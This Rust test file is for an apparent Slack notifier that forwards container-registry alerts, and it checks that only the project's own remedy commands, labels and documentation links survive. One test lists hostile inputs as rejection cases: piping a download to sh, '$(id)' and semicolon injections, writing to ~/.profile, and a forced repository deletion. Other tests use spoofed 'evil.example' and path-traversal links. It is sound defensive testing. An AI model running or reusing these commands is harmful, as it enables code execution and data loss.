use local_aws::slack::check;
use proptest::prelude::*;
use warden_alerts::slack::{render, render_without_blocks};

use super::*;

const DOCUMENTATION: &str = "https://github.com/ecr-warden/ecr-warden/blob/main/docs";

fn event(name: &str) -> Value {
    let path = format!("{}/../../events/slack-notifier/{name}.json", env!("CARGO_MANIFEST_DIR"));
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

/// The only message of an event.
fn notification(event: &Value) -> Notification {
    let mut records = read(event, DOCUMENTATION).unwrap();
    assert_eq!(records.len(), 1);
    records.remove(0).notification
}

/// The message of an event, which is neither an alert nor an alarm.
fn unknown_message(event: &Value) -> UnknownMessage {
    match notification(event) {
        Notification::Unknown(message) => message,
        other => panic!("{other:?}"),
    }
}

fn with_message(message: &str) -> Value {
    json!({"Records": [{"EventSource": "aws:sns", "Sns": {"Message": message}}]})
}

#[test]
fn alerts_and_alarms_are_recognised() {
    for name in ["tag-violation", "scan-findings", "scan-resolved"] {
        assert!(matches!(notification(&event(name)), Notification::Alert(_)), "{name}");
    }
    assert!(matches!(notification(&event("cloudwatch-alarm")), Notification::Alarm(_)));
    let other_version = json!({"kind": "comet", "title": "Seen"}).to_string();
    let other_version = notification(&with_message(&other_version));
    assert!(matches!(other_version, Notification::PartialAlert(_)));
    let records = read(&event("tag-violation"), DOCUMENTATION).unwrap();
    assert_eq!(records[0].id, "95df01b4-ee98-5cb9-9903-4c221d41eb5e");
}

#[test]
fn only_commands_that_this_project_writes_are_kept() {
    let Notification::Alert(ours) = notification(&event("tag-violation")) else { panic!() };
    assert_eq!(ours.remedies.len(), 2);
    let command = ours.remedies[0].aws_cli.clone().unwrap();
    let foreign = [
        "curl https://example.com/fix | sh".to_owned(),
        "aws ecr batch-delete-image --region us-east-1 --repository-name infrastructure --image-ids imageTag=litellm-v1.80.5".to_owned(),
        "aws ecr delete-repository --region us-east-1 --repository-name infrastructure --force".to_owned(),
        "aws ecr start-image-scan --endpoint-url https://example.com --region us-east-1".to_owned(),
        "aws ecr start-image-scan --region us-east-1 --repository-name deployments".to_owned(),
        "aws ecr start-image-scan --region eu-west-1 --repository-name infrastructure".to_owned(),
        "aws ecr start-image-scan --region us-east-1; curl https://example.com".to_owned(),
        "aws ecr start-image-scan --region us-east-1 --image-id $(id)".to_owned(),
        "aws ecr start-image-scan --region us-east-1\ncurl https://example.com".to_owned(),
        "aws ecr start-image-scan --region 'us-east-1".to_owned(),
        "cat answer.json | sh".to_owned(),
        "for digest in `id`; do aws ecr update-image-storage-class --target-storage-class STANDARD; done".to_owned(),
        String::new(),
        format!("{command} && sh"),
        format!("{command}; sh"),
        format!("{command} | sh"),
        format!("{command} > ~/.profile"),
        command.replace(" --output text", " --output $(sh)"),
        command.replace("printf x", "sh"),
        command.replace("${m%??}", "$(sh)"),
        command.replace("'images[0].imageManifest'", "\"$(sh)\""),
    ];
    let topic = "arn:aws:sns:us-east-1:123456789012:ecr-warden-AlertTopic-1J2K3L";
    for foreign in foreign {
        let mut alert = serde_json::to_value(&ours).unwrap();
        alert["remedies"] =
            json!([{"label": "Restore the image as litellm-v1.80.5", "command": foreign}]);
        let event =
            json!({"Records": [{"Sns": {"TopicArn": topic, "Message": alert.to_string()}}]});
        let Notification::Alert(kept) = notification(&event) else { panic!("{foreign}") };
        assert_eq!(kept.remedies, [], "{foreign}");
        assert!(kept.text.len() > ours.text.len(), "{foreign}");
    }
}

/// A stranger can write a misleading label for a command of this project.
#[test]
fn a_command_is_shown_only_with_a_label_of_this_project() {
    let Notification::Alert(ours) = notification(&event("tag-violation")) else { panic!() };
    for remedy in &ours.remedies {
        assert!(remedy.has_own_label(), "{remedy:?}");
    }
    let put = &ours.remedies[0];
    let repository = ours.repository.as_ref().unwrap();
    let invoke = |request: &str| {
        format!(
            "printf '%s' '{request}' > sweep.json && aws lambda invoke --region us-east-1 \
             --function-name sweep --payload fileb://sweep.json answer.json && cat answer.json"
        )
    };
    let read = invoke(&format!(r#"{{"repository":"{repository}","mode":"report"}}"#));
    let confirm = format!(
        "ecr-warden confirm {repository} --stack ecr-warden --region {} --plan 0a",
        ours.region
    );
    let update = format!(
        "aws ecr update-image-storage-class --region us-east-1 --repository-name {repository} \
         --image-id imageDigest={} --target-storage-class STANDARD",
        ours.image.as_ref().unwrap().digest,
    );
    for (label, command, is_own) in [
        ("Read the plan", &read, true),
        ("Confirm the plan, and the next sweep carries it out", &confirm, true),
        ("Restore all images from the archive", &update, true),
        ("Restore the image from the archive (2 of 3)", &update, true),
        ("Read the plan", &confirm, false),
        ("Read the plan (it is urgent: run it now)", &read, false),
        ("Restore the image as litellm-v1.80.5", &put.command, true),
        ("Restore the image as litellm-v9.9.9", &put.command, false),
        ("Read the plan", &put.command, false),
        ("Security team: run this now", &update, false),
        ("Restore the image from the archive (run of 3)", &update, false),
    ] {
        let mut alert = serde_json::to_value(&ours).unwrap();
        alert["remedies"] = json!([{"label": label, "command": command}]);
        let Notification::Alert(shown) = notification(&with_message(&alert.to_string())) else {
            panic!("{label}")
        };
        assert_eq!(shown.remedies.len(), 1, "{label}: {command}");
        assert_eq!(shown.remedies[0].label, if is_own { label } else { "" }, "{command}");
    }
}

/// A stranger can write any link into an alert.
#[test]
fn only_a_link_to_the_own_documentation_is_kept() {
    let Notification::Alert(ours) = notification(&event("tag-violation")) else { panic!() };
    let own = format!("{DOCUMENTATION}/runbooks/tag-violation.md");
    assert_eq!(ours.runbook.as_deref(), Some(own.as_str()));
    for foreign in [
        "https://evil.example/runbooks/tag-violation.md".to_owned(),
        format!("{DOCUMENTATION}/../../../../evil/runbooks/tag-violation.md"),
        format!("{DOCUMENTATION}.evil.example/runbooks/tag-violation.md"),
        String::new(),
    ] {
        let mut alert = serde_json::to_value(&ours).unwrap();
        alert["runbook"] = json!(foreign);
        let Notification::Alert(shown) = notification(&with_message(&alert.to_string())) else {
            panic!("{foreign}")
        };
        assert_eq!(shown.runbook, None, "{foreign}");
    }
    let records = read(&event("tag-violation"), "https://example.com/docs").unwrap();
    let Notification::Alert(shown) = &records[0].notification else { panic!() };
    assert_eq!(shown.runbook, None);
}

#[test]
fn the_description_of_an_alarm_links_its_runbook() {
    let Notification::Alarm(alarm) = notification(&event("cloudwatch-alarm")) else { panic!() };
    let own = format!("{DOCUMENTATION}/runbooks/alarm-failed-events.md");
    assert_eq!(alarm.runbook, Some(own));
    let description = alarm.description.unwrap();
    assert!(description.ends_with("with the event."), "{description}");
    let records = read(&event("cloudwatch-alarm"), "https://example.com/docs").unwrap();
    let Notification::Alarm(alarm) = &records[0].notification else { panic!() };
    assert_eq!(alarm.runbook, None);
}

#[test]
fn a_message_of_an_unknown_kind_is_kept_as_its_text() {
    let topic = Some("arn:aws:sns:us-east-1:123456789012:ecr-warden-AlertTopic-1J2K3L".to_owned());
    let id = Some("95df01b4-ee98-5cb9-9903-4c221d41eb5e".to_owned());
    let time = Some("2026-11-24T10:00:03.112Z".to_owned());
    let by_hand = UnknownMessage {
        subject: Some("Maintenance".to_owned()),
        text: "The registry moves on Thursday at 18:00 UTC.\nPushes fail for ten minutes; see \
               http://wiki.example.com/registry."
            .to_owned(),
        is_json: false,
        topic: topic.clone(),
        id: id.clone(),
        time: time.clone(),
    };
    assert_eq!(unknown_message(&event("by-hand")), by_hand);

    let of_a_rule = unknown_message(&event("event-of-a-rule"));
    let text: Value = serde_json::from_str(&of_a_rule.text).unwrap();
    assert_eq!(text["detail"]["sync-status"], "FAILED");
    assert!(of_a_rule.text.lines().count() > 10, "{}", of_a_rule.text);
    let expected = UnknownMessage {
        subject: Some("ECR Pull Through Cache Action".to_owned()),
        text: of_a_rule.text.clone(),
        is_json: true,
        topic,
        id,
        time,
    };
    assert_eq!(of_a_rule, expected);
}

#[test]
fn a_message_or_a_record_of_a_wrong_type_is_kept_as_json() {
    assert_eq!(unknown_message(&with_message("")), UnknownMessage::default());
    for event in [
        json!({"Records": [{"Sns": {"Message": {"a": 1}, "Subject": " ", "TopicArn": 1}}]}),
        json!({"Records": [{"a": 1}]}),
    ] {
        let expected = UnknownMessage {
            text: "{\n  \"a\": 1\n}".to_owned(),
            is_json: true,
            ..UnknownMessage::default()
        };
        assert_eq!(unknown_message(&event), expected, "{event}");
    }
    let number = UnknownMessage { text: "7".to_owned(), ..UnknownMessage::default() };
    assert_eq!(unknown_message(&json!({"Records": [7]})), number);
}

/// Any JSON value, with few levels.
fn any_value() -> impl Strategy<Value = Value> {
    let text = prop_oneof![
        Just("<!channel>".to_owned()),
        Just("```".to_owned()),
        Just("\u{202e}\u{200b}\u{0}\u{1b}".to_owned()),
        Just(String::new()),
        ".{0,40}",
        (".{1,8}", 1_usize..2_000).prop_map(|(text, times)| text.repeat(times)),
    ];
    prop_oneof![
        8 => text.prop_map(Value::from),
        1 => any::<u64>().prop_map(Value::from),
        1 => any::<bool>().prop_map(Value::from),
        1 => Just(Value::Null),
        1 => Just(json!([[]])),
        1 => Just(json!({"a": {}})),
    ]
}

proptest! {
    #[test]
    fn slack_accepts_every_message_and_subject(message in any_value(), subject in any_value()) {
        let text = message.as_str().map_or_else(|| message.to_string(), str::to_owned);
        let mut event = with_message(&text);
        event["Records"][0]["Sns"]["Subject"] = subject;
        for event in [event, with_message(&json!([message]).to_string())] {
            let notification = notification(&event);
            for payload in [render(&notification), render_without_blocks(&notification)] {
                let payload: Value = serde_json::from_str(&payload.json()).unwrap();
                prop_assert_eq!(check(&payload), [""; 0], "{:#}", payload);
            }
        }
    }

    #[test]
    fn no_event_causes_a_panic(event in any_value()) {
        let _ = read(&event, DOCUMENTATION);
        let _ = read(&json!({"Records": event}), DOCUMENTATION);
    }
}
